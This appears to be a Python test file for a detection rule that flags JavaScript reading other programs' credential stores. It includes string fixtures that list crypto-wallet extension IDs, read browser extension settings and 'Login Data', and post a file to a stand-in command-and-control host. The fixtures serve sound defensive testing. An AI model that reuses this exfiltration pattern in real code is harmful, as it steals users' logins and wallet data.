from lazaretto.detect.rules.javascript.reads_stores import RULE

WALLETS = "const ids = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa', 'ibnejdfjmmkpcnlpebklmnkoeoihofec'];\n"


def test_wallets_and_logins_are_sent(look):
    source = (
        WALLETS
        + "const base = os.homedir() + '/x/Local Extension Settings/';\n"
        + "fs.readdirSync(base); const f = fs.createReadStream('Login Data');\n"
        + "request.post({ url: 'http://c2.example.test/uploads', formData: { f } });\n"
    )
    assert look(RULE, source) == [
        (
            1,
            "HIGH",
            "HIGH",
            "names the stores of other programs (browser logins, extension storage, wallet extensions) and sends data",
        )
    ]


def test_reading_alone_says_less(look):
    source = WALLETS + "const p = '/x/Local Extension Settings/'; fs.readdirSync(p); const k = 'login.keychain-db';"
    assert [f[1:3] for f in look(RULE, source)] == [("MEDIUM", "MEDIUM")]


def test_near_misses(look):
    assert (
        look(RULE, "const METAMASK = 'nkbihfbeogaeaoehlefnkodbefgpgknn'; connect(METAMASK); fetch('https://x.test')")
        == []
    )
    wallet = WALLETS + "export const known = ids; // see Local Extension Settings"
    assert [f[1] for f in look(RULE, wallet)] == ["LOW"]
